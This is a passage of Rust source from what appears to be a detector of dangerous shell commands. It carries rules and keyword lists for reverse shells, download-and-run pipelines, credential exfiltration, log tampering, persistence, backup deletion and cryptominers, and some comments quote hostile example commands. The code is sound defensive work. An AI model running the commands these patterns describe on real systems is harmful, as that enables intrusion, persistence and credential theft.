                    } else {
                        Severity::Medium
                    },
                    0.8,
                    format!("erases the log `{path}`"),
                    i,
                ));
                return;
            }
        }
    }

    fn log_services(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let texts: Vec<String> = args.iter().map(|w| w.text.to_ascii_lowercase()).collect();
        let has = |needle: &str| texts.iter().any(|t| t == needle);
        let (severity, score, message) = match self.name(i) {
            "journalctl" => {
                let Some((k, flag)) = texts
                    .iter()
                    .enumerate()
                    .find(|(_, t)| t.starts_with("--vacuum"))
                else {
                    return;
                };
                let value = flag
                    .split_once('=')
                    .map(|(_, v)| v.to_owned())
                    .or_else(|| texts.get(k + 1).cloned())
                    .unwrap_or_default();
                let tiny = value
                    .trim_end_matches(['s', 'm', 'k', 'K'])
                    .parse::<u32>()
                    .is_ok_and(|n| n <= 1)
                    || value.ends_with('s')
                    || value.ends_with("min")
                    || value.ends_with('k');
                if tiny {
                    (
                        Severity::High,
                        0.8,
                        "deletes the systemd journal".to_owned(),
                    )
                } else {
                    (
                        Severity::Low,
                        0.4,
                        "deletes old systemd journal entries".to_owned(),
                    )
                }
            }
            "auditctl" => {
                if has("-d") && args.iter().any(|w| w.text == "-D") {
                    (Severity::High, 0.85, "deletes all audit rules".to_owned())
                } else if texts.windows(2).any(|p| p[0] == "-e" && p[1] == "0") || has("-e0") {
                    (Severity::High, 0.85, "disables kernel auditing".to_owned())
                } else {
                    return;
                }
            }
            "systemctl" | "service" => {
                const LOGGERS: &[&str] = &[
                    "auditd",
                    "rsyslog",
                    "syslog",
                    "syslog-ng",
                    "systemd-journald",
                    "auditbeat",
                    "falcon-sensor",
                    "osqueryd",
                    "wazuh-agent",
                    "ossec",
                    "sysmon",
                ];
                let stops = texts
                    .iter()
                    .any(|t| matches!(t.as_str(), "stop" | "disable" | "mask" | "kill"));
                let unit = texts
                    .iter()
                    .map(|t| t.strip_suffix(".service").unwrap_or(t))
                    .find(|t| LOGGERS.contains(t));
                match (stops, unit) {
                    (true, Some(unit)) => (
                        Severity::High,
                        0.8,
                        format!("stops the {unit} logging service"),
                    ),
                    _ => return,
                }
            }
            "wevtutil"
                if texts.first().is_some_and(|t| t == "cl" || t == "clear-log")
                    || texts.iter().any(|t| t == "/e:false") =>
            {
                (
                    Severity::High,
                    0.85,
                    "clears a Windows event log".to_owned(),
                )
            }
            "wevtutil" => return,
            "clear-eventlog" | "remove-eventlog" => (
                Severity::High,
                0.85,
                "clears a Windows event log".to_owned(),
            ),
            _ => return,
        };
        hits.push(hit("log_tampering", severity, score, message, i));
    }

    fn persistence_commands(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let texts: Vec<String> = args.iter().map(|w| w.text.to_ascii_lowercase()).collect();
        let (rule, severity, score, message) = match self.name(i) {
            "crontab" => {
                if texts
                    .iter()
                    .any(|t| matches!(t.as_str(), "-l" | "-e" | "-r" | "-v"))
                {
                    return;
                }
                let piped = self.cmds.get(i).is_some_and(|c| {
                    resolve::prev_stage(self.cmds, i).is_some() || resolve::stdin_text(c).is_some()
                });
                if texts.is_empty() && !piped {
                    return;
                }
                // A job written here and now is scheduled code; a file may be a reviewed one.
                let written = resolve::content_of(self.cmds, self.res, i, None, 0).is_some();
                (
                    "cron_persistence",
                    if written {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    if written { 0.8 } else { 0.7 },
                    "installs a new crontab".to_owned(),
                )
            }
            "launchctl" => {
                if !texts
                    .first()
                    .is_some_and(|t| matches!(t.as_str(), "load" | "bootstrap" | "submit"))
                {
                    return;
                }
                (
                    "launchd_persistence",
                    Severity::Medium,
                    0.6,
                    "loads a launchd job that starts on its own".to_owned(),
                )
            }
            "schtasks" => {
                if !texts.iter().any(|t| t == "/create") {
                    return;
                }
                (
                    "windows_persistence",
                    Severity::Medium,
                    0.7,
                    "creates a Windows scheduled task".to_owned(),
                )
            }
            _ => {
                let uid0 = texts
                    .windows(2)
                    .any(|p| matches!(p[0].as_str(), "-u" | "--uid") && p[1] == "0")
                    || texts.iter().any(|t| t == "--uid=0");
                let sudo_group = texts.windows(2).any(|p| {
                    matches!(
                        p[0].as_str(),
                        "-g" | "-ag" | "-ga" | "-G" | "-aG" | "--groups"
                    ) && p[1]
                        .split(',')
                        .any(|g| matches!(g, "sudo" | "wheel" | "admin" | "root"))
                }) || texts.windows(2).any(|p| {
                    p[0].starts_with('-')
                        && p[0].contains('g')
                        && p[1]
                            .split(',')
                            .any(|g| matches!(g, "sudo" | "wheel" | "admin" | "root"))
                });
                if uid0 {
                    (
                        "auth_config_write",
                        Severity::High,
                        0.85,
                        "creates an account with uid 0 (a second root)".to_owned(),
                    )
                } else if sudo_group {
                    (
                        "auth_config_write",
                        Severity::Medium,
                        0.6,
                        "adds a user to an administrator group".to_owned(),
                    )
                } else {
                    return;
                }
            }
        };
        hits.push(hit(rule, severity, score, message, i));
    }

    fn writes(&self, i: usize, hits: &mut Vec<Hit>) {
        let (Some(command), Some(r)) = (self.cmds.get(i), self.res.get(i)) else {
            return;
        };
        for write in resolve::writes(command, r) {
            if paths::is_block_device(&write.path) {
                let wipe = write
                    .source
                    .as_deref()
                    .is_none_or(|s| s.starts_with("/dev/"));
                hits.push(hit(
                    "disk_wipe",
                    Severity::Critical,
                    if wipe { 0.9 } else { 0.8 },
                    format!(
                        "writes directly to the disk `{}`, destroying its data",
                        write.path
                    ),
                    i,
                ));
                return;
            }
            let Some((rule, what)) = paths::persistence(&write.path) else {
                continue;
            };
            let known = resolve::content_of(self.cmds, self.res, i, None, 0);
            let content = known.as_deref().unwrap_or_default();
            // `kubectl completion bash >> ~/.bashrc`: generated shell setup, not a payload.
            let generated = known.is_none()
                && self.args(i).iter().any(|w| {
                    matches!(
                        w.text.as_str(),
                        "completion" | "completions" | "init" | "shellenv" | "hook"
                    )
                })
                && !DOWNLOADERS.contains(&self.name(i));
            let settings_only = generated || known.as_deref().is_some_and(is_environment_setup);
            let (severity, score) = match rule {
                "cron_persistence" => (Severity::High, 0.8),
                "systemd_persistence" if self.enables_units => (Severity::High, 0.8),
                "systemd_persistence" => (Severity::Medium, 0.7),
                "shell_rc_persistence" if settings_only => (Severity::Low, 0.4),
                "shell_rc_persistence" => (Severity::Medium, 0.65),
                "ssh_key_persistence" => (Severity::High, 0.85),
                "launchd_persistence" => (Severity::High, 0.8),
                "init_persistence" if write.path == "/etc/ld.so.preload" => {
                    (Severity::Critical, 0.9)
                }
                "init_persistence" => (Severity::High, 0.8),
                "auth_config_write" if content.contains("NOPASSWD") => (Severity::Critical, 0.9),
                "auth_config_write" if write.path.contains("sudoers") => (Severity::High, 0.85),
                "auth_config_write" => (Severity::Critical, 0.9),
                _ => (Severity::Medium, 0.6),
            };
            let verb = if write.append { "appends to" } else { "writes" };
            let message = match rule {
                "ssh_key_persistence" => {
                    format!("adds an SSH key to `{}`, granting remote login", write.path)
                }
                "init_persistence" if write.path == "/etc/ld.so.preload" => {
                    "preloads a library into every process (/etc/ld.so.preload)".to_owned()
                }
                "shell_rc_persistence" if settings_only => {
                    format!("adds environment settings to {what} (`{}`)", write.path)
                }
                _ => format!("{verb} {what} (`{}`)", write.path),
            };
            hits.push(hit(rule, severity, score, message, i));
            return;
        }
    }

    fn dev_tcp(&self, i: usize, hits: &mut Vec<Hit>) {
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let is_dev_net = |t: &str| t.contains("/dev/tcp/") || t.contains("/dev/udp/");
        let in_redirect = command.redirects.iter().any(|r| is_dev_net(&r.target.text));
        let in_args = self
            .args(i)
            .iter()
            .any(|w| w.text.starts_with("/dev/tcp/") || w.text.starts_with("/dev/udp/"));
        if !in_redirect && !in_args {
            return;
        }
        let name = self.name(i);
        let shell_here = interpreter(name).is_some();
        let shell_in_pipeline = self
            .pipeline(i)
            .iter()
            .any(|&j| j != i && interpreter(self.name(j)).is_some());
        let exec_then_shell = (name == "exec" || name.is_empty()) && self.shell_uses_fd;
        if (shell_here && in_redirect) || shell_in_pipeline || exec_then_shell {
            hits.push(hit(
                "reverse_shell",
                Severity::Critical,
                0.95,
                "reverse shell: connects a shell to a remote host through /dev/tcp".to_owned(),
                i,
            ));
        } else {
            hits.push(hit(
                "dev_tcp_connection",
                Severity::High,
                0.75,
                "opens a raw network connection through /dev/tcp".to_owned(),
                i,
            ));
        }
    }

    fn netcat(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let executes = args.iter().any(|w| {
            matches!(w.text.as_str(), "--exec" | "--sh-exec" | "--lua-exec")
                || w.text.starts_with("--exec=")
                || w.text.starts_with("--sh-exec=")
                || option_letters(w).is_some_and(|l| l.contains(['e', 'c']))
        });
        if executes {
            hits.push(hit(
                "reverse_shell",
                Severity::Critical,
                0.95,
                "netcat with -e/-c hands a shell to a remote host".to_owned(),
                i,
            ));
        }
    }

    fn socat(&self, i: usize, hits: &mut Vec<Hit>) {
        let texts: Vec<String> = self
            .args(i)
            .iter()
            .map(|w| w.text.to_ascii_lowercase())
            .collect();
        let exec = texts
            .iter()
            .any(|t| t.starts_with("exec:") || t.starts_with("system:"));
        let net = texts.iter().any(|t| {
            t.starts_with("tcp")
                || t.starts_with("udp")
                || t.starts_with("openssl")
                || t.starts_with("ssl")
        });
        if exec && net {
            hits.push(hit(
                "reverse_shell",
                Severity::Critical,
                0.95,
                "socat connects a program's input and output to the network".to_owned(),
                i,
            ));
        }
    }

    /// Pipelines and substitutions that feed a program into an interpreter.
    fn interpreter_rules(&self, i: usize, interp: Interp, hits: &mut Vec<Hit>) {
        let Some(r) = self.res.get(i) else { return };
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let name = &r.name;
        let earlier: Vec<usize> = self
            .pipeline(i)
            .iter()
            .copied()
            .filter(|&j| j < i)
            .collect();
        if r.stdin_code {
            if let Some(&j) = earlier.iter().find(|&&j| is_downloader(self.name(j))) {
                hits.push(Hit {
                    rule: "download_pipe_exec",
                    severity: Severity::High,
                    score: 0.9,
                    message: format!("pipes a downloaded script into {name}"),
                    first: j,
                    last: i,
                });
                return;
            }
            if let Some(&j) = earlier.iter().find(|&&j| self.is_decoder(j)) {
                hits.push(Hit {
                    rule: "decode_pipe_exec",
                    severity: Severity::High,
                    score: 0.85,
                    message: format!("decodes an obfuscated payload and runs it with {name}"),
                    first: j,
                    last: i,
                });
                return;
            }
        }
        // `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`: the connection may sit on either side.
        if interp == Interp::Shell
            && (r.stdin_code || r.interactive)
            && let Some(&j) = self.pipeline(i).iter().find(|&&j| {
                j != i
                    && (NETCATS.contains(&self.name(j))
                        || matches!(self.name(j), "telnet" | "socat" | "openssl"))
            })
        {
            let (first, last) = (j.min(i), j.max(i));
            hits.push(Hit {
                rule: "reverse_shell",
                severity: Severity::Critical,
                score: 0.9,
                message: format!("pipes a network connection into {name}: a reverse shell"),
                first,
                last,
            });
            return;
        }
        // `bash -c "$(curl …)"`, `bash <(curl …)`, `python -c "$(wget -O- …)"`.
        let mut words: Vec<&Word> = Vec::new();
        if let Some(code) = r.code.and_then(|c| command.argv.get(c)) {
            words.push(code);
        }
        words.extend(r.operands.iter().filter_map(|&o| command.argv.get(o)));
        words.extend(
            command
                .redirects
                .iter()
                .filter(|d| matches!(d.op, RedirOp::Read | RedirOp::HereString))
                .map(|d| &d.target),
        );
        self.substituted_download(i, &words, name, hits);
    }

    fn substituted_download(&self, i: usize, words: &[&Word], name: &str, hits: &mut Vec<Hit>) {
        for word in words {
            let nested = self.nested(word);
            if nested.clone().any(|j| is_downloader(self.name(j))) {
                hits.push(hit(
                    "download_pipe_exec",
                    Severity::High,
                    0.9,
                    format!("runs a downloaded script with {name}"),
                    i,
                ));
                return;
            }
            if nested.clone().any(|j| self.is_decoder(j)) {
                hits.push(hit(
                    "decode_pipe_exec",
                    Severity::High,
                    0.85,
                    format!("decodes an obfuscated payload and runs it with {name}"),
                    i,
                ));
                return;
            }
        }
    }

    /// `vssadmin delete shadows`: the backups ransomware removes first.
    fn backup_deletion(&self, i: usize, hits: &mut Vec<Hit>) {
        let texts: Vec<String> = self
            .args(i)
            .iter()
            .map(|w| w.text.to_ascii_lowercase())
            .collect();
        let has = |needle: &str| texts.iter().any(|t| t == needle);
        let deletes = match self.name(i) {
            "vssadmin" => has("delete") && has("shadows"),
            "wmic" => has("shadowcopy") && has("delete"),
            _ => has("delete") && (has("catalog") || has("backup") || has("systemstatebackup")),
        };
        if deletes {
            hits.push(hit(
                "recursive_delete",
                Severity::Critical,
                0.9,
                "deletes the Windows backups (volume shadow copies or backup catalog)".to_owned(),
                i,
            ));
        }
    }

    /// `setcap cap_setuid+ep /usr/bin/python3`: setuid by another name.
    fn capabilities(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        const DANGEROUS: &[&str] = &[
            "cap_setuid",
            "cap_setgid",
            "cap_sys_admin",
            "cap_dac_override",
            "cap_dac_read_search",
            "cap_sys_ptrace",
            "cap_sys_module",
            "cap_chown",
            "all=",
        ];
        let Some(caps) = args.iter().find(|w| {
            let lower = w.text.to_ascii_lowercase();
            DANGEROUS.iter().any(|c| lower.contains(c)) || lower.starts_with("=ep")
        }) else {
            return;
        };
        let Some(target) = args
            .iter()
            .rev()
            .find(|w| !w.text.starts_with('-') && w.text != caps.text)
        else {
            return;
        };
        let path = paths::normalize(&target.text);
        let base = path.rsplit('/').next().unwrap_or(&path);
        let shell = SHELL_LIKE.contains(&base) || base.starts_with("python");
        hits.push(hit(
            "setuid_bit",
            if shell {
                Severity::Critical
            } else {
                Severity::High
            },
            0.8,
            format!("grants root capabilities ({}) to `{path}`", caps.text),
            i,
        ));
    }

    fn root_password(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let fed_root = || {
            resolve::content_of(self.cmds, self.res, i, None, 0)
                .or_else(|| {
                    resolve::prev_stage(self.cmds, i)
                        .and_then(|j| resolve::content_of(self.cmds, self.res, j, None, 0))
                })
                .is_some_and(|c| c.lines().any(|l| l.trim_start().starts_with("root:")))
        };
        let message = match self.name(i) {
            "passwd"
                if args.iter().any(|w| w.text == "-d" || w.text == "--delete")
                    && args.iter().any(|w| w.text == "root") =>
            {
                "removes the root password"
            }
            "chpasswd" if fed_root() => "sets the root password",
            _ => return,
        };
        hits.push(hit(
            "auth_config_write",
            Severity::High,
            0.8,
            message.to_owned(),
            i,
        ));
    }

    /// CLIs that print a stored token: `gh auth token`, `gcloud auth print-access-token`, …
    fn cli_tokens(&self, i: usize, hits: &mut Vec<Hit>) {
        let texts: Vec<String> = self
            .args(i)
            .iter()
            .map(|w| w.text.to_ascii_lowercase())
            .collect();
        let has = |needle: &str| texts.iter().any(|t| t == needle);
        let secret_key = texts.iter().any(|t| {
            t.contains("secret") || t.contains("session_token") || t.contains("access_key")
        });
        let what = match self.name(i) {
            "aws"
                if has("configure")
                    && (has("export-credentials") || (has("get") && secret_key)) =>
            {
                "AWS credentials"
            }
            "gh" if has("auth") && has("token") => "the GitHub CLI token",
            "gcloud"
                if has("auth") && (has("print-access-token") || has("print-identity-token")) =>
            {
                "a Google Cloud access token"
            }
            "az" if has("account") && has("get-access-token") => "an Azure access token",
            "kubectl" if has("config") && has("view") && (has("--raw") || has("--flatten")) => {
                "Kubernetes credentials"
            }
            "git" if has("credential") && has("fill") => "stored git credentials",
            "vault" if has("print") && has("token") => "a Vault token",
            _ => return,
        };
        if self.pipeline_has_network(i) {
            hits.push(hit(
                "credential_exfiltration",
                Severity::Critical,
                0.85,
                format!("prints {what} and sends it over the network"),
                i,
            ));
        } else {
            hits.push(hit(
                "credential_read",
                Severity::Medium,
                0.6,
                format!("prints {what}"),
                i,
            ));
        }
    }

    fn pipeline_has_network(&self, i: usize) -> bool {
        self.pipeline(i).iter().any(|&j| {
            j != i && NETWORK.contains(&self.name(j)) && !matches!(self.name(j), "scp" | "rsync")
        })
    }

    /// `docker run … xmrig/xmrig`.
    fn miner_image(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        if !args.iter().any(|w| w.text == "run" || w.text == "create") {
            return;
        }
        let image = args.iter().find(|w| {
            let lower = w.text.to_ascii_lowercase();
            MINERS.iter().any(|m| m.len() >= 5 && lower.contains(m))
        });
        if let Some(image) = image {
            hits.push(hit(
                "cryptominer",
                Severity::High,
                0.85,
                format!("runs a cryptocurrency miner image ({})", image.text),
                i,
            ));
        }
    }

    fn is_decoder(&self, j: usize) -> bool {
        let args = self.args(j);
        let has = |flags: &[&str]| args.iter().any(|w| flags.contains(&w.text.as_str()));
        match self.name(j) {
            "base64" | "base32" | "basenc" => has(&["-d", "--decode", "-D", "-di"]),
            "xxd" => args.iter().any(|w| w.text.starts_with("-r")),
            "openssl" => {
                has(&["-d", "base64"])
                    && args
                        .iter()
                        .any(|w| w.text == "-d" || w.text == "enc" || w.text == "base64")
            }
            "uudecode" | "rev" => true,
            "certutil" => args.iter().any(|w| w.text.eq_ignore_ascii_case("-decode")),
            _ => false,
        }
    }

    fn powershell_iex(&self, i: usize, hits: &mut Vec<Hit>) {
        const PS_DOWNLOAD: &[&str] = &[
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "net.webclient",
            "iwr",
            "irm",
            "invoke-webrequest",
            "invoke-restmethod",
            "start-bitstransfer",
            "curl",
            "wget",
        ];
        let mentions = |j: usize| {
            is_downloader(self.name(j))
                || self.cmds.get(j).is_some_and(|c| {
                    c.argv.iter().any(|w| {
                        let lower = w.text.to_ascii_lowercase();
                        PS_DOWNLOAD.iter().any(|needle| lower.contains(needle))
                    })
                })
        };
        let mut related: Vec<usize> = self.group(i).to_vec();
        related.extend(self.pipeline(i).iter().copied());
        for w in self.args(i) {
            related.extend(self.nested(w));
        }
        if related.into_iter().any(|j| j != i && mentions(j))
            || self.args(i).iter().any(|w| {
                let lower = w.text.to_ascii_lowercase();
                PS_DOWNLOAD.iter().any(|needle| lower.contains(needle))
            })
        {
            hits.push(hit(
                "download_pipe_exec",
                Severity::High,
                0.9,
                "PowerShell runs a downloaded script with Invoke-Expression".to_owned(),
                i,
            ));
        }
    }

    /// Inline program code: signatures of reverse shells, download-and-eval, fork bombs.
    fn code(&self, i: usize, hits: &mut Vec<Hit>) {
        let Some(code) = self.args(i).first() else {
            return;
        };
        let lower = code.text.to_ascii_lowercase();
        let any = |needles: &[&str]| needles.iter().any(|n| lower.contains(n));
        let socket = any(&[
            "socket",
            "fsockopen",
            "tcpsocket",
            "net.connect",
            "/inet/tcp",
            "require('net')",
            "require(\"net\")",
            "tcpclient",
            "io::socket",
        ]);
        let connect = any(&[
            "connect",
            "fsockopen",
            "tcpsocket.new",
            "tcpsocket.open",
            "/inet/tcp",
            "tcpclient(",
            "net.connect",
            "peeraddr",
        ]);
        let shell = any(&[
            "subprocess",
            "pty.spawn",
            "dup2",
            "/bin/sh",
            "/bin/bash",
            "cmd.exe",
            "sh -i",
            "exec",
            "system",
            "exec ",
            "shell_exec",
            "passthru",
            "proc_open",
            "popen",
            "child_process",
            "spawn(",
            "system(",
            "io.popen",
            "os.execute",
            "iex",
            "invoke-expression",
            "|&",
            "getline",
        ]);
        if socket && connect && shell {
            hits.push(hit(
                "reverse_shell",
                Severity::Critical,
                0.9,
                "inline code connects to a remote host and attaches a shell to the socket"
                    .to_owned(),
                i,
            ));
            return;
        }
        let fetch = any(&[
            "urlopen",
            "urllib",
            "requests.get",
            "http.client",
            "urlretrieve",
            "lwp::simple",
            "net::http",
            "open-uri",
            "https.get(",
            "http.get(",
            "fetch(",
            "file_get_contents('http",
            "file_get_contents(\"http",
            "downloadstring",
            "invoke-webrequest",
        ]);
        let evaluates = any(&[
            "exec(",
            "eval(",
            "compile(",
            "new function",
            "eval ",
            "iex",
            "invoke-expression",
            "system(",
        ]);
        if fetch && evaluates {
            hits.push(hit(
                "download_pipe_exec",
                Severity::High,
                0.85,
                "inline code downloads a program and evaluates it".to_owned(),
                i,
            ));
            return;
        }
        let fork = lower.contains("fork while fork")
            || (lower.contains("while") && lower.contains("os.fork()"))
            || lower.contains("fork() while")
            || lower.contains("while(1)fork()")
            || lower.contains("while(true){fork");
        if fork {
            hits.push(hit(
                "fork_bomb",
                Severity::Critical,
                0.85,
                "fork bomb: forks processes until the machine stops responding".to_owned(),
                i,
            ));
        }
    }

    fn credentials(&self, i: usize, hits: &mut Vec<Hit>) {
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let name = self.name(i);
        let reader = READERS.contains(&name);
        let copier = COPIERS.contains(&name);
        let mut candidates: Vec<&str> = Vec::new();
        if reader {
            for w in self.args(i) {
                let t = w.text.as_str();
                let t = t
                    .rsplit_once("=@")
                    .map(|(_, p)| p)
                    .or_else(|| t.strip_prefix('@'))
                    .or_else(|| t.strip_prefix("if="))
                    .or_else(|| {
                        t.split_once('=')
                            .filter(|(k, _)| k.starts_with("--"))
                            .map(|(_, p)| p)
                    })
                    .unwrap_or(t);
                let t = t.split(';').next().unwrap_or(t);
                candidates.push(t);
            }
        }
        for r in &command.redirects {
            if r.reads_file() {
                candidates.push(&r.target.text);
            }
        }
        let found = candidates.iter().find_map(|c| {
            if c.is_empty() || c.starts_with('-') && c.len() > 1 {
                return None;
            }
            let path = paths::normalize(c);
            let what = paths::credential_file(&path)
                .or_else(|| copier.then(|| paths::credential_dir(&path)).flatten())?;
            Some((path, what))
        });
        let Some((path, what)) = found else { return };
        let remote_copy = matches!(name, "scp" | "rsync" | "sftp")
            && self.args(i).iter().any(|w| {
                let t = &w.text;
                t.contains(':') && !t.starts_with('/') && !t.starts_with('~') && !t.starts_with('-')
            });
        let network_here =
            (NETWORK.contains(&name) && !matches!(name, "scp" | "rsync" | "sftp")) || remote_copy;
        let network_pipe = self.pipeline(i).iter().any(|&j| {
            j != i && NETWORK.contains(&self.name(j)) && !matches!(self.name(j), "scp" | "rsync")
        });
        let dev_tcp = self.pipeline(i).iter().any(|&j| {
            self.cmds.get(j).is_some_and(|c| {
                c.redirects
                    .iter()
                    .any(|r| r.target.text.contains("/dev/tcp/"))
            })
        });
        if network_here || network_pipe || dev_tcp {
            hits.push(hit(
                "credential_exfiltration",
                Severity::Critical,
                0.9,
                format!("sends {what} (`{path}`) over the network"),
                i,
            ));
        } else {
            hits.push(hit(
                "credential_read",
                Severity::High,
                0.8,
                format!("reads {what} (`{path}`)"),
                i,
            ));
        }
    }

    fn miner(&self, i: usize, hits: &mut Vec<Hit>) {
        let name = self.name(i);
        if MINERS.contains(&name) {
            hits.push(hit(
                "cryptominer",
                Severity::High,
                0.9,
                format!("runs the {name} cryptocurrency miner"),
                i,
            ));
            return;
        }
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let words = command
            .argv
            .iter()
            .map(|w| w.text.as_str())
            .chain(command.assigns.iter().map(|(_, v)| v.as_str()));
        // A renamed miner still names its algorithm and pool.
        const ALGORITHMS: &[&str] = &[
            "rx/0",
            "rx/wow",
            "rx/arq",
            "cn/r",
            "cn/0",
            "cn/half",
            "cn-heavy",
            "cn-pico",
            "cryptonight",
            "randomx",
            "kawpow",
            "ethash",
            "etchash",
            "autolykos2",
            "argon2/chukwa",
            "ghostrider",
            "astrobwt",
            "progpow",
            "equihash",
            "x16r",
            "monero",
            "xmr",
        ];
        let args = self.args(i);
        let value_of = |flags: &[&str]| {
            args.iter().enumerate().find_map(|(k, w)| {
                let t = w.text.as_str();
                flags.iter().find_map(|f| {
                    if t == *f {
                        args.get(k + 1).map(|v| v.text.to_ascii_lowercase())
                    } else {
                        t.strip_prefix(f)
                            .and_then(|r| r.strip_prefix('='))
                            .map(str::to_ascii_lowercase)
                    }
                })
            })
        };
        let algorithm = value_of(&["--algo", "-a", "--coin", "--algorithm"])
            .filter(|v| ALGORITHMS.contains(&v.as_str()));
        let pool = value_of(&["-o", "--url", "--pool", "-P"]).is_some();
        if let (Some(algorithm), true) = (algorithm, pool) {
            hits.push(hit(
                "cryptominer",
                Severity::High,
                0.8,
                format!("runs a cryptocurrency miner ({algorithm} to a pool)"),
                i,
            ));
            return;
        }
        for text in words {
            if contains_ci(text, "stratum")
                && (contains_ci(text, "+tcp://")
                    || contains_ci(text, "+ssl://")
                    || contains_ci(text, "+tls://")
                    || starts_with_ci(text, "stratum://"))
            {
                hits.push(hit(
                    "cryptominer",
                    Severity::High,
                    0.9,
                    "connects to a cryptocurrency mining pool (stratum)".to_owned(),
                    i,
                ));
                return;
            }
            if starts_with_ci(text, "--donate-level") {
                hits.push(hit(
                    "cryptominer",
                    Severity::High,
                    0.85,
                    "runs a cryptocurrency miner (--donate-level)".to_owned(),
                    i,
                ));
                return;
            }
        }
    }

    /// `curl -o x.sh URL && sh x.sh`, `wget URL -O /tmp/x; chmod +x /tmp/x; /tmp/x`.
    fn download_then_exec(&self, hits: &mut Vec<Hit>) {
        let mut downloads: Vec<(usize, String)> = Vec::new();
        for i in self.from..self.cmds.len() {
            let name = self.name(i);
            if !is_downloader(name) && !matches!(name, "certutil" | "bitsadmin") {
                continue;
            }
            let (Some(command), Some(r)) = (self.cmds.get(i), self.res.get(i)) else {
                continue;
            };
            let mut files: Vec<String> = resolve::writes(command, r)
                .into_iter()
                .map(|w| w.path)
                .collect();
            let args = self.args(i);
            let remote_name = args
                .iter()
                .any(|w| w.text == "-O" || w.text == "--remote-name")
                && name == "curl"
                || (name == "wget"
                    && !args.iter().any(|w| {
                        w.text.starts_with("-O") || w.text.starts_with("--output-document")
                    }));
            if remote_name || matches!(name, "certutil" | "bitsadmin") {
                if let Some(url) = url_operand(args) {
                    let base = url
                        .text
                        .split(['?', '#'])
                        .next()
                        .unwrap_or("")
                        .rsplit('/')
                        .next()
                        .unwrap_or("");
                    if !base.is_empty() {
                        files.push(base.to_owned());
                    }
                }
                if matches!(name, "certutil" | "bitsadmin")
                    && let Some(last) = args.last()
                {
                    files.push(paths::normalize(&last.text));
                }
            }
            for file in files {
                let base = file.rsplit('/').next().unwrap_or(&file).to_owned();
                if !base.is_empty() {
                    downloads.push((i, base));
                }
            }
        }
        for (d, base) in downloads {
            for k in d + 1..self.cmds.len() {
                let Some(command) = self.cmds.get(k) else {
                    continue;
                };
                let Some(r) = self.res.get(k) else { continue };
                let runs_file = |w: &Word| w.text.rsplit(['/', '\\']).next() == Some(base.as_str());
                let direct = command.argv.get(r.eff).is_some_and(|w| {
                    runs_file(w)
                        && (w.text.contains('/')
                            || w.text.contains('\\')
                            || r.eff > 0
                            || base.ends_with(".exe"))
                });
                let interpreted = (interpreter(&r.name).is_some()
                    || matches!(r.name.as_str(), "source" | "."))
                    && r.operands
                        .first()
                        .and_then(|&o| command.argv.get(o))
                        .is_some_and(runs_file);
                let sourced = matches!(r.name.as_str(), "source" | ".")
                    && self.args(k).first().is_some_and(runs_file);
                if direct || interpreted || sourced {
                    hits.push(Hit {
                        rule: "download_then_exec",
                        severity: Severity::Medium,
                        score: 0.7,
                        message: format!("downloads `{base}` and then runs it"),
                        first: d,
                        last: k,
                    });
                    return;
                }
            }
        }
    }
}

fn members(index: &[(u32, usize)], id: Option<u32>) -> Vec<usize> {
    let Some(id) = id else {
        return Vec::new();
    };
    let start = index.partition_point(|(k, _)| *k < id);
    index[start..]
        .iter()
        .take_while(|(k, _)| *k == id)
        .map(|(_, i)| *i)
        .collect()
}

fn contains_ci(haystack: &str, needle: &str) -> bool {
    haystack.len() >= needle.len()
        && haystack
            .as_bytes()
            .windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

fn starts_with_ci(text: &str, prefix: &str) -> bool {
    text.as_bytes()
        .get(..prefix.len())
        .is_some_and(|head| head.eq_ignore_ascii_case(prefix.as_bytes()))
}

/// The URL a download command fetches: the argument with a scheme, else the first operand
/// that looks like `host/path` and is not the value of an option.
fn url_operand(args: &[Word]) -> Option<&Word> {
    const TAKES_VALUE: &[&str] = &[
        "-o",
        "-O",
        "-P",
        "-a",
        "-e",
        "-U",
        "-t",
        "-T",
        "-w",
        "-H",
        "-d",
        "-u",
        "-A",
        "-X",
        "-F",
        "-x",
        "-b",
        "-c",
        "-m",
        "--header",
        "--user-agent",
        "--output",
        "--output-document",
        "--directory-prefix",
        "--data",
        "--user",
        "--proxy",
        "--referer",
    ];
    if let Some(url) = args.iter().find(|w| w.text.contains("://")) {
        return Some(url);
    }
    args.iter().enumerate().find_map(|(k, w)| {
        let after_option = k
            .checked_sub(1)
            .and_then(|p| args.get(p))
            .is_some_and(|prev| TAKES_VALUE.contains(&prev.text.as_str()));
        let t = w.text.as_str();
        let looks_like_url = !t.starts_with(['-', '/', '~', '.'])
            && t.contains('/')
            && t.split('/').next().is_some_and(|host| host.contains('.'));
        (!after_option && looks_like_url).then_some(w)
    })
}

/// Whether lines added to a shell startup file only set the environment: `export PATH=…`,
/// plain aliases, `source ~/…`, `eval "$(pyenv init -)"` — what installers and developers
/// add every day, unlike a command that runs at each login.
fn is_environment_setup(content: &str) -> bool {
    const INIT_TOOLS: &[&str] = &[
        "pyenv", "rbenv", "nodenv", "goenv", "direnv", "starship", "zoxide", "fnm", "mise", "rtx",
        "conda", "brew", "thefuck", "atuin", "jenv", "plenv", "luarocks",
    ];
    const HIJACKED: &[&str] = &["sudo", "su", "ssh", "doas", "passwd", "cd", "ls", "cat"];
    let mut lines = content
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .peekable();
    if lines.peek().is_none() {
        return false;
    }
    lines.all(|line| {
        let unsafe_chars = line.contains(['`', ';', '|', '&', '>', '<']) || line.contains("$(");
        if let Some(rest) = line.strip_prefix("eval ") {
            let inner = rest.trim_matches(['"', '\'']);
            let tool = inner.strip_prefix("$(").unwrap_or_default();
            // `eval "$(tool init -)"` of a local tool; a download or decoder is not setup.
